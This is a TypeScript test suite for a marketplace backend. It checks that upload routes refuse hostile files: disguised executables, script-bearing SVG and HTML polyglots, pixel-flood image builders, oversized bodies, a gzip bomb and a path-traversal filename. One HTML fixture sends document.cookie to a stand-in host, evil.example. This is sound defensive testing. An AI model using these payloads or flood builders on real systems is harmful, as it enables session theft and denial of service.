import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import zlib from 'node:zlib';
import { sql } from 'drizzle-orm';
import type { InjectOptions, LightMyRequestResponse } from 'fastify';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { ERROR_CODES, IMAGE_UPLOAD_MAX_BYTES } from '@bazaar/shared';
import { uniqueAadhaar, uniqueMobile } from '../modules/customers/people-test-support.js';
import { DEMO_PASSWORD, seedDemoAccounts } from '../../src/seed/demo-accounts.js';
import { newCaptchaId, signIn } from '../support/accounts.js';
import { insertProduct, insertShop } from '../support/fixtures.js';
import { startMailCatcher, type MailCatcher } from '../support/mail-catcher.js';
import { createTestApp, TEST_CAPTCHA_CODE, type TestContext } from '../support/test-app.js';
import { IMAGE_INPUT_MAX_PIXELS, processImage } from '../../src/platform/images.js';

/*
 * Hostile uploads (docs/security.md V5; ASVS 5.0 V5.2): every upload route is sent a renamed
 * executable, an SVG with a script, HTML declared as PNG, a PNG-signed HTML polyglot, pixel-flood
 * images and a 50 MB body. Each is refused with the error body of docs/api.md, naming the file
 * field, and nothing is stored: no file under the uploads or private folders, no row changed.
 * Request bodies compressed with gzip (a decompression bomb) are checked too.
 */

let ctx: TestContext;
let mail: MailCatcher;
const cookies: Record<'seller' | 'newseller' | 'admin', string> = {
  seller: '',
  newseller: '',
  admin: '',
};
let productId: number;
let validPng: Buffer;
/** The OTP mailed for the seller registration every refusal below reuses (never consumed). */
let registrationOtp: string;
const REGISTRATION_EMAIL = 'hostile.uploads@example.in';

// ---------------------------------------------------------------------------------------------
// Hostile files

/** An ELF executable header (a Linux binary), renamed to look like a picture. */
const ELF = Buffer.concat([
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]),
  Buffer.alloc(56, 0x01),
  Buffer.from('/lib64/ld-linux-x86-64.so.2'),
]);
/** A Windows PE executable: 'MZ', the DOS stub text and the 'PE\0\0' signature. */
const PE = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(58, 0x00),
  Buffer.from([0x80, 0x00, 0x00, 0x00]),
  Buffer.from('This program cannot be run in DOS mode.\r\r\n$'),
  Buffer.alloc(20, 0x00),
  Buffer.from('PE\0\0'),
  Buffer.alloc(40, 0x02),
]);
const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">' +
    '<script>fetch("/api/account/profile").then(r=>r.text()).then(alert)</script>' +
    '<rect width="10" height="10" fill="red" onload="alert(1)"/></svg>',
);
const HTML = Buffer.from(
  '<!doctype html><html><body><script>document.location="https://evil.example/?"+document.cookie</script></body></html>',
);
/** PNG's 8-byte signature followed by HTML: passes a magic-bytes check, is no image. */
const PNG_SIGNED_HTML = Buffer.concat([
  Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
  HTML,
]);

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body));
  return Buffer.concat([length, body, crc]);
}

/**
 * A well-formed PNG of a few hundred bytes whose header claims `width` x `height` pixels (RGB,
 * 8 bits) with one row of real data: decoding it would allocate width x height x 3 bytes.
 */
function pixelFloodPng(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.writeUInt8(8, 8); // bit depth
  header.writeUInt8(2, 9); // colour type: RGB
  const oneRow = zlib.deflateSync(Buffer.alloc(1 + width * 3));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', oneRow),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A real 16x16 JPEG whose frame header (SOF0) is patched to claim `width` x `height`. */
async function pixelFloodJpeg(width: number, height: number): Promise<Buffer> {
  const jpeg = await sharp({
    create: { width: 16, height: 16, channels: 3, background: '#884422' },
  })
    .jpeg({ optimiseCoding: false })
    .toBuffer();
  const sof = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  expect(sof).toBeGreaterThan(0);
  // FF C0, length (2), precision (1), height (2), width (2)
  jpeg.writeUInt16BE(height, sof + 5);
  jpeg.writeUInt16BE(width, sof + 7);
  return jpeg;
}

interface HostileFile {
  label: string;
  name: string;
  type: string;
  bytes: Buffer;
}

let hostileFiles: HostileFile[];

// ---------------------------------------------------------------------------------------------
// Upload routes

interface UploadRoute {
  name: string;
  url: () => string;
  field: string;
  caller: keyof typeof cookies | null;
  /** Valid text fields, so only the file can be refused. */
  fields: () => Promise<Record<string, string>>;
}

const UPLOAD_ROUTES: UploadRoute[] = [
  {
    name: 'POST /api/auth/register/seller (shopImage)',
    url: () => '/api/auth/register/seller',
    field: 'shopImage',
    caller: null,
    fields: async () => ({
      name: 'Ganga Fashion Point',
      email: REGISTRATION_EMAIL,
      password: 'Vx7#kq2!Lm9@zR',
      confirmPassword: 'Vx7#kq2!Lm9@zR',
      mobile: uniqueMobile(),
      gender: 'Male',
      locality: 'Station Road',
      landmark: 'Opposite Bus Stand',
      city: 'Gaya',
      pincode: '823001',
      gstin: '10AABCS1429B1Z9',
      shopCategory: 'Cloth',
      shopDescription: 'Sarees, kurtas and school uniforms since 1998.',
      otp: registrationOtp,
      acceptTerms: 'true',
      captchaId: await newCaptchaId(ctx.app),
      captchaCode: TEST_CAPTCHA_CODE,
    }),
  },
  {
    name: 'POST /api/seller/shop-details (shopImage)',
    url: () => '/api/seller/shop-details',
    field: 'shopImage',
    caller: 'newseller',
    fields: async () => ({
      shopName: 'Kavita Textiles',
      gstin: '10AABCS1429B1Z9',
      shopCategory: 'Cloth',
      shopDescription: 'Handloom sarees from Bhagalpur.',
      locality: 'Khalifabagh',
      landmark: '',
      city: 'Bhagalpur',
      pincode: '812002',
    }),
  },
  {
    name: 'POST /api/shop/products (images)',
    url: () => '/api/shop/products',
    field: 'images',
    caller: 'seller',
    fields: async () => ({
      company: 'Raymond',
      name: 'Linen Kurta',
      category: 'Men',
      style: 'Plain',
      material: 'Cotton',
      colour: 'red',
      size: 'L',
      quantity: '12',
      mrpPaise: '149900',
      pricePaise: '119900',
      description: 'Breathable linen kurta for summer',
    }),
  },
  {
    name: 'POST /api/shop/products/{id}/images (images)',
    url: () => `/api/shop/products/${productId}/images`,
    field: 'images',
    caller: 'seller',
    fields: async () => ({}),
  },
  {
    name: 'POST /api/employees (idProof)',
    url: () => '/api/employees',
    field: 'idProof',
    caller: 'admin',
    fields: async () => ({
      name: 'Mukesh Ram',
      email: `hostile-staff-${Date.now()}@example.in`,
      mobile: uniqueMobile(),
      altMobile: '',
      houseMobile: '',
      aadhaarNumber: uniqueAadhaar(),
      employeeRole: 'Karigar',
      locality: 'Rajendra Nagar',
      landmark: 'Road No. 5',
      city: 'Patna',
      pincode: '800016',
      state: 'Bihar',
      country: 'India',
    }),
  },
];

function multipart(
  fields: Record<string, string>,
  files: { field: string; name: string; type: string; bytes: Buffer }[],
) {
  const boundary = `----bazaarhostile${Math.random().toString(16).slice(2)}`;
  const parts: Buffer[] = [];
  for (const [name, value] of Object.entries(fields)) {
    parts.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`,
      ),
    );
  }
  for (const file of files) {
    parts.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="${file.field}"; filename="${file.name}"\r\nContent-Type: ${file.type}\r\n\r\n`,
      ),
      file.bytes,
      Buffer.from('\r\n'),
    );
  }
  parts.push(Buffer.from(`--${boundary}--\r\n`));
  return {
    payload: Buffer.concat(parts),
    boundary,
    contentType: `multipart/form-data; boundary=${boundary}`,
  };
}

// ---------------------------------------------------------------------------------------------
// Oracles

const errorBodySchema = z
  .object({
    error: z
      .object({
        code: z.enum(ERROR_CODES),
        message: z.string().min(1),
        fields: z.record(z.string(), z.string()).optional(),
      })
      .strict(),
  })
  .strict();

function expectErrorFormat(status: number, contentType: unknown, body: string, where: string) {
  expect(status, `${where}: ${status} ${body}`).toBeGreaterThanOrEqual(400);
  expect(status, `${where}: ${status} ${body}`).toBeLessThan(500);
  expect(String(contentType), where).toMatch(/^application\/json/);
  const parsed = errorBodySchema.safeParse(JSON.parse(body));
  expect(parsed.success, `${where}: ${body}`).toBe(true);
  return parsed.data!.error;
}

/** Tables not compared: captchas (each registration attempt spends one) and failed sign-ins. */
const UNFINGERPRINTED = new Set(['captchas', 'login_failures']);

async function tableFingerprint(): Promise<Record<string, string>> {
  const tables = (
    (await ctx.database.db.execute(
      sql.raw(
        `select table_name from information_schema.tables where table_schema = 'public' and table_type = 'BASE TABLE'`,
      ),
    )) as unknown as { rows: { table_name: string }[] }
  ).rows
    .map((row) => row.table_name)
    .filter((name) => !UNFINGERPRINTED.has(name));
  const union = tables
    .map(
      (name) =>
        `select '${name}' as t, count(*)::text || ':' || coalesce(md5(string_agg(x::text, '|' order by x::text)), '') as f from "${name}" x`,
    )
    .join(' union all ');
  const result = (await ctx.database.db.execute(sql.raw(union))) as unknown as {
    rows: { t: string; f: string }[];
  };
  return Object.fromEntries(result.rows.map((row) => [row.t, row.f]));
}

function filesUnder(root: string): string[] {
  if (!fs.existsSync(root)) return [];
  return (fs.readdirSync(root, { recursive: true }) as string[])
    .filter((entry) => fs.statSync(path.join(root, entry)).isFile())
    .sort();
}

async function stored() {
  return {
    tables: await tableFingerprint(),
    uploads: filesUnder(ctx.storage.root),
    private: filesUnder(ctx.privateStorage.root),
  };
}

async function upload(
  route: UploadRoute,
  files: { name: string; type: string; bytes: Buffer }[],
): Promise<LightMyRequestResponse> {
  const form = multipart(
    await route.fields(),
    files.map((file) => ({ ...file, field: route.field })),
  );
  const cookie = route.caller ? cookies[route.caller] : undefined;
  const options: InjectOptions = {
    method: 'POST',
    url: route.url(),
    headers: { 'content-type': form.contentType, ...(cookie ? { cookie } : {}) },
    payload: form.payload,
  };
  return ctx.app.inject(options);
}

// ---------------------------------------------------------------------------------------------

beforeAll(async () => {
  mail = await startMailCatcher();
  ctx = await createTestApp({ accounts: { smtpUrl: mail.url } });
  const db = ctx.database.db;
  const shopA = await insertShop(db);
  await insertShop(db);
  await seedDemoAccounts(db);
  cookies.seller = await signIn(ctx.app, 'seller', 'seller@bazaar.test', DEMO_PASSWORD);
  cookies.newseller = await signIn(ctx.app, 'seller', 'newseller@bazaar.test', DEMO_PASSWORD);
  cookies.admin = await signIn(ctx.app, 'admin', 'admin@bazaar.test', DEMO_PASSWORD);
  productId = await insertProduct(db, { shopId: shopA, name: 'Cotton Kurta', imageCount: 1 });
  // Add Product takes company, product name and colour from the shop's own lists.
  for (const [list, name] of [
    ['companies', 'Raymond'],
    ['product-names', 'Linen Kurta'],
    ['colours', 'red'],
  ] as const) {
    const added = await ctx.app.inject({
      method: 'POST',
      url: `/api/shop/${list}`,
      headers: { cookie: cookies.seller },
      payload: { name },
    });
    expect(added.statusCode, added.body).toBeLessThan(300);
  }
  const otp = await ctx.app.inject({
    method: 'POST',
    url: '/api/auth/registration-otp',
    payload: { email: REGISTRATION_EMAIL },
  });
  expect(otp.statusCode, otp.body).toBe(202);
  registrationOtp = /\b(\d{6})\b/.exec((await mail.waitFor(REGISTRATION_EMAIL)).text)![1]!;
  validPng = await sharp({ create: { width: 32, height: 24, channels: 3, background: '#2255aa' } })
    .png()
    .toBuffer();
  hostileFiles = [
    { label: 'ELF executable named .png', name: 'photo.png', type: 'image/png', bytes: ELF },
    { label: 'PE executable named .jpg', name: 'photo.jpg', type: 'image/jpeg', bytes: PE },
    {
      label: 'SVG with <script> named .png, sent as image/svg+xml',
      name: 'logo.png',
      type: 'image/svg+xml',
      bytes: SVG_WITH_SCRIPT,
    },
    { label: 'HTML sent as image/png (x.png)', name: 'x.png', type: 'image/png', bytes: HTML },
    {
      label: 'HTML behind a PNG signature',
      name: 'x.png',
      type: 'image/png',
      bytes: PNG_SIGNED_HTML,
    },
    {
      label: 'pixel-flood PNG claiming 50000x50000',
      name: 'flood.png',
      type: 'image/png',
      bytes: pixelFloodPng(50_000, 50_000),
    },
    {
      label: 'pixel-flood PNG claiming 6000x6000 (under sharp default, over our limit)',
      name: 'flood6k.png',
      type: 'image/png',
      bytes: pixelFloodPng(6000, 6000),
    },
    {
      label: 'pixel-flood JPEG claiming 50000x50000',
      name: 'flood.jpg',
      type: 'image/jpeg',
      bytes: await pixelFloodJpeg(50_000, 50_000),
    },
  ];
});

afterAll(async () => {
  await ctx?.close();
  await mail?.close();
});

describe('hostile files on every upload route', () => {
  it('builds pixel floods that are small files with huge headers', async () => {
    for (const file of hostileFiles.filter((entry) => entry.label.startsWith('pixel-flood'))) {
      expect(file.bytes.length, file.label).toBeLessThan(64 * 1024);
      const metadata = await sharp(file.bytes, { limitInputPixels: false }).metadata();
      expect(metadata.width! * metadata.height!, file.label).toBeGreaterThan(
        IMAGE_INPUT_MAX_PIXELS,
      );
    }
  });

  it('refuses a pixel flood in processImage before decoding it (limitInputPixels)', async () => {
    for (const file of hostileFiles.filter((entry) => entry.label.startsWith('pixel-flood'))) {
      const started = Date.now();
      await expect(processImage(file.bytes), file.label).rejects.toThrow(/pixel limit/i);
      expect(Date.now() - started, file.label).toBeLessThan(2000);
    }
    // A legitimate image still goes through.
    const processed = await processImage(validPng);
    expect(processed.full.width).toBe(32);
  });

  describe.each(UPLOAD_ROUTES.map((route) => [route.name, route] as const))(
    '%s',
    (_name, route) => {
      it('refuses the form without a file, naming the file field', async () => {
        const before = await stored();
        const response = await upload(route, []);
        // No file at all: refused naming the file field (product images need at least one).
        const error = expectErrorFormat(
          response.statusCode,
          response.headers['content-type'],
          response.body,
          `${route.name} without a file`,
        );
        expect(Object.keys(error.fields ?? {}), response.body).toContain(route.field);
        expect(await stored()).toEqual(before);
      });

      it.each([0, 1, 2, 3, 4, 5, 6, 7])(
        'refuses hostile file #%i, storing nothing',
        async (index) => {
          const file = hostileFiles[index]!;
          const before = await stored();
          const response = await upload(route, [file]);
          const where = `${route.name} <- ${file.label}`;
          const error = expectErrorFormat(
            response.statusCode,
            response.headers['content-type'],
            response.body,
            where,
          );
          expect(response.statusCode, where).toBe(400);
          expect(error.code).toBe('VALIDATION_FAILED');
          expect(Object.keys(error.fields ?? {}), `${where}: ${response.body}`).toContain(
            route.field,
          );
          expect(await stored(), where).toEqual(before);
        },
      );

      it.runIf(route.field === 'images')(
        'refuses a hostile file sent after a good one (nothing of the batch stored)',
        async () => {
          const before = await stored();
          const response = await upload(route, [
            { name: 'good.png', type: 'image/png', bytes: validPng },
            hostileFiles[5]!,
          ]);
          expectErrorFormat(
            response.statusCode,
            response.headers['content-type'],
            response.body,
            route.name,
          );
          expect(response.statusCode).toBe(400);
          expect(await stored()).toEqual(before);
        },
      );

      it('refuses a 50 MB body with 413 at once, from its declared length', async () => {
        const before = await stored();
        const big = Buffer.alloc(50 * 1024 * 1024, 0x41);
        const response = await upload(route, [{ name: 'big.png', type: 'image/png', bytes: big }]);
        const error = expectErrorFormat(
          response.statusCode,
          response.headers['content-type'],
          response.body,
          `${route.name} 50 MB`,
        );
        expect(response.statusCode).toBe(413);
        expect(error.code).toBe('PAYLOAD_TOO_LARGE');
        expect(await stored()).toEqual(before);
      });
    },
  );
});

// ---------------------------------------------------------------------------------------------

interface StreamedAnswer {
  status: number;
  contentType: string | undefined;
  body: string;
  /** Body bytes the client had handed to the socket when the answer arrived. */
  sentWhenAnswered: number;
}

const FIFTY_MB = 50 * 1024 * 1024;

/**
 * Sends a 50 MB multipart upload to the listening app over a real socket.
 * - `declared`: announces `Content-Length: 50 MB`, sends the form fields and the first 64 KB of
 *   the file, then nothing more: the answer can only come from the headers (a server waiting
 *   for the body would let the call time out).
 * - `chunked`: no length; the file is streamed at about 25 MB/s and the answer must come long
 *   before the end, once the 5 MB file limit is passed (nothing buffered beyond it).
 */
async function streamBigUpload(
  origin: string,
  route: UploadRoute,
  mode: 'declared' | 'chunked',
): Promise<StreamedAnswer> {
  const form = multipart(await route.fields(), []);
  const head = Buffer.concat([
    form.payload.subarray(0, form.payload.length - `--${form.boundary}--\r\n`.length),
    Buffer.from(
      `--${form.boundary}\r\nContent-Disposition: form-data; name="${route.field}"; filename="big.png"\r\nContent-Type: image/png\r\n\r\n`,
    ),
  ]);
  const cookie = route.caller ? cookies[route.caller] : undefined;
  return new Promise<StreamedAnswer>((resolve, reject) => {
    let sent = 0;
    let answered = false;
    const request = http.request(new URL(route.url(), origin), {
      method: 'POST',
      headers: {
        'content-type': form.contentType,
        ...(mode === 'declared' ? { 'content-length': String(FIFTY_MB) } : {}),
        ...(cookie ? { cookie } : {}),
      },
    });
    const timer = setTimeout(() => {
      request.destroy();
      reject(new Error(`${route.name} ${mode}: no answer after ${sent} bytes`));
    }, 10_000);
    request.on('response', (response) => {
      answered = true;
      clearTimeout(timer);
      const sentWhenAnswered = sent;
      const chunks: Buffer[] = [];
      response.on('data', (chunk: Buffer) => chunks.push(chunk));
      response.on('end', () => {
        request.destroy();
        resolve({
          status: response.statusCode ?? 0,
          contentType: response.headers['content-type'],
          body: Buffer.concat(chunks).toString('utf8'),
          sentWhenAnswered,
        });
      });
    });
    request.on('error', (error) => {
      if (!answered) {
        clearTimeout(timer);
        reject(error);
      }
    });
    const chunk = Buffer.alloc(256 * 1024, 0x42);
    request.write(head);
    sent += head.length;
    if (mode === 'declared') {
      request.write(chunk.subarray(0, 64 * 1024));
      sent += 64 * 1024;
      return;
    }
    const pump = () => {
      if (answered || request.destroyed) return;
      if (sent >= FIFTY_MB) {
        request.end(`\r\n--${form.boundary}--\r\n`);
        return;
      }
      request.write(chunk);
      sent += chunk.length;
      setTimeout(pump, 10);
    };
    pump();
  });
}

describe('a 50 MB upload over a real socket', () => {
  let origin: string;

  beforeAll(async () => {
    await ctx.app.listen({ port: 0, host: '127.0.0.1' });
    origin = `http://127.0.0.1:${(ctx.app.server.address() as AddressInfo).port}`;
  });

  it('is refused with 413 from its declared Content-Length alone (body never read)', async () => {
    for (const route of UPLOAD_ROUTES) {
      const before = await stored();
      const answer = await streamBigUpload(origin, route, 'declared');
      const where = `${route.name}: sent ${answer.sentWhenAnswered} bytes`;
      expectErrorFormat(answer.status, answer.contentType, answer.body, where);
      expect(answer.status, where).toBe(413);
      expect(answer.sentWhenAnswered, where).toBeLessThan(1024 * 1024);
      expect(await stored(), where).toEqual(before);
    }
  }, 60_000);

  it('is refused with 413 soon after the 5 MB file limit when sent chunked', async () => {
    for (const route of UPLOAD_ROUTES) {
      const before = await stored();
      const answer = await streamBigUpload(origin, route, 'chunked');
      const where = `${route.name}: sent ${answer.sentWhenAnswered} bytes`;
      expectErrorFormat(answer.status, answer.contentType, answer.body, where);
      expect(answer.status, where).toBe(413);
      console.info(
        `${route.name}: chunked 50 MB answered 413 after ${answer.sentWhenAnswered} bytes sent`,
      );
      // The file limit plus what sat in socket buffers during the 10 ms pacing: far from 50 MB.
      expect(answer.sentWhenAnswered, where).toBeLessThan(IMAGE_UPLOAD_MAX_BYTES + 8 * 1024 * 1024);
      expect(await stored(), where).toEqual(before);
    }
  }, 60_000);
});

describe('what an accepted upload becomes', () => {
  it('stores a picture under a server-made name, never the sent one, re-encoded to WebP and served inert', async () => {
    const uploadsParent = path.dirname(ctx.storage.root);
    const siblingsBefore = fs.readdirSync(uploadsParent).sort();
    const before = filesUnder(ctx.storage.root);
    const form = multipart({}, [
      {
        field: 'images',
        name: '../../../evil.html',
        type: 'text/html',
        bytes: validPng,
      },
    ]);
    const response = await ctx.app.inject({
      method: 'POST',
      url: `/api/shop/products/${productId}/images`,
      headers: { 'content-type': form.contentType, cookie: cookies.seller },
      payload: form.payload,
    });
    expect(response.statusCode, response.body).toBe(201);
    const added = filesUnder(ctx.storage.root).filter((file) => !before.includes(file));
    expect(added).toHaveLength(2); // the picture and its thumbnail
    for (const file of added) {
      expect(file).toMatch(/^products\/shop-\d+\/[0-9a-f-]{36}(-thumb)?\.webp$/);
      expect(file).not.toContain('evil');
    }
    // Nothing written beside the uploads folder by the '../' name.
    expect(fs.readdirSync(uploadsParent).sort()).toEqual(siblingsBefore);
    // Served as a WebP picture that the browser may not sniff into HTML.
    const served = await ctx.app.inject({ method: 'GET', url: `/media/${added[0]}` });
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/webp');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(served.rawPayload.subarray(8, 12).toString('latin1')).toBe('WEBP');
  });
});

describe('compressed request bodies (decompression bombs)', () => {
  it('stops a gzip bomb on a JSON route at the 1 MB body limit, in the error format', async () => {
    // 50 MB of JSON that gzips to about 50 KB.
    const inflated = Buffer.concat([
      Buffer.from('{"name":"'),
      Buffer.alloc(50 * 1024 * 1024, 0x61),
      Buffer.from('"}'),
    ]);
    const bomb = zlib.gzipSync(inflated, { level: 9 });
    expect(bomb.length).toBeLessThan(200 * 1024);
    const before = await stored();
    const started = Date.now();
    const response = await ctx.app.inject({
      method: 'POST',
      url: '/api/contact-messages',
      headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' },
      payload: bomb,
    });
    const error = expectErrorFormat(
      response.statusCode,
      response.headers['content-type'],
      response.body,
      'gzip bomb',
    );
    expect(response.statusCode).toBe(413);
    expect(error.code).toBe('PAYLOAD_TOO_LARGE');
    expect(Date.now() - started).toBeLessThan(5000);
    expect(await stored()).toEqual(before);
  });

  it('refuses gzip that does not inflate, and an unknown encoding, in the error format', async () => {
    for (const [encoding, payload] of [
      ['gzip', Buffer.from('not gzip at all')],
      ['br', Buffer.from('not brotli')],
      ['x-unknown', Buffer.from('{}')],
    ] as const) {
      const response = await ctx.app.inject({
        method: 'POST',
        url: '/api/contact-messages',
        headers: { 'content-type': 'application/json', 'content-encoding': encoding },
        payload,
      });
      expectErrorFormat(
        response.statusCode,
        response.headers['content-type'],
        response.body,
        `content-encoding ${encoding}`,
      );
    }
  });

  it('refuses a gzip-compressed multipart upload without storing it', async () => {
    const before = await stored();
    const route = UPLOAD_ROUTES[2]!;
    const form = multipart(await route.fields(), [
      { field: 'images', name: 'ok.png', type: 'image/png', bytes: validPng },
    ]);
    const response = await ctx.app.inject({
      method: 'POST',
      url: route.url(),
      headers: {
        'content-type': form.contentType,
        'content-encoding': 'gzip',
        cookie: cookies.seller,
      },
      payload: zlib.gzipSync(form.payload),
    });
    expectErrorFormat(
      response.statusCode,
      response.headers['content-type'],
      response.body,
      'gzip multipart',
    );
    expect(await stored()).toEqual(before);
  });
});
